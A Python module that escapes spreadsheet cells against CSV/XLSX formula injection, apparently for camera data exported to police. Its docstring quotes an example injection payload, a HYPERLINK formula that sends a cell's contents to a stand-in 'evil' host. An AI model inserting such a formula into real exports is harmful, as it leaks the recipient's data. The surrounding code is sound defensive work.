"""Spreadsheet cells that cannot become formulas (CSV/XLSX injection, OWASP "CSV injection").

A camera named `=HYPERLINK("http://evil/?"&A1,"click")` must reach a police officer's Excel as
text, never as a live formula. Every exported text cell goes through `escape_cell` (a leading
apostrophe, which spreadsheet programs read as "this is text"); openpyxl then writes it with the
string type (it types only texts starting with "=" as formulas), so no reader evaluates it.
`unescape_cell` undoes the apostrophe on import, so exporting and importing the same file
changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# The characters a spreadsheet program may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# Control characters XLSX cannot hold (openpyxl refuses them); a stored name may carry one.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def escape_cell(value: object) -> object:
    """The value to write in a cell: texts that could start a formula get a leading apostrophe.

    Control characters a workbook cannot hold are dropped.
    """
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The text of an imported cell without the apostrophe `escape_cell` put in front."""
    if len(text) > 1 and text[0] == "'" and text[1] in FORMULA_STARTS:
        return text[1:]
    return text


def escape_row(values: Iterable[object]) -> list[object]:
    """A row for a CSV writer or `sheet.append`, every text escaped.

    After escaping no text starts with "=", so openpyxl writes each one with the string type.
    """
    return [escape_cell(value) for value in values]
